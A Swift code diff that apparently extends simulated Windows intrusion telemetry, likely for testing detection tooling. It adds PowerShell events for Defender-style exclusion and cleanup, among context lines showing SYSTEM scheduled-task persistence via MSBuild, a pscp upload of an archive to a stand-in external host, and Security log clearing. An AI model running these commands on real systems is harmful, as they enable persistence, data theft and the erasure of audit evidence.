@@ -37,6 +37,9 @@ enum WindowsIntrusion {
       WindowsEvents.connected(Moment(6, 28, 11, 26, 40), host, to: "203.0.113.145", port: 443),
       WindowsEvents.started(Moment(6, 28, 11, 41, 2), shell, "cmd.exe /c \"\(folder)r.bat\"", by: host),
       WindowsEvents.started(
+        WindowsScripts.exclusionTime, WindowsScripts.exclusion,
+        "powershell -NoProfile -Command \(WindowsScripts.exclusionScript)", by: shell, "PowerShell.EXE"),
+      WindowsEvents.started(
         Moment(6, 28, 11, 41, 5), process(7_611, "C:\\Windows\\System32\\schtasks.exe"),
         "schtasks /create /tn Hello /tr \"MSBuild.exe C:\\ProgramData\\ScnCfg\\hello.xml\" /sc minute /mo 5 /ru SYSTEM",
         by: shell),
@@ -93,6 +96,9 @@ enum WindowsIntrusion {
         Moment(7, 2, 3, 2, 33), copy, "pscp.exe -P 443 -batch C:\\Users\\Public\\Documents\\a.rar u@203.0.113.200:/d/",
         by: shell, "PSCP"),
       WindowsEvents.connected(Moment(7, 2, 3, 2, 34), copy, to: FortiGateIntrusion.drop, port: 443),
+      WindowsEvents.started(
+        WindowsScripts.cleaningTime, WindowsScripts.cleaning,
+        "powershell -NoProfile -Command \"\(WindowsScripts.cleaningScript)\"", by: backdoor, "PowerShell.EXE"),
       WindowsEvents.started(
         Moment(7, 2, 3, 38, 4), process(9_702, "C:\\Windows\\System32\\wevtutil.exe", isSystem: true),
         "wevtutil cl Security", by: backdoor),
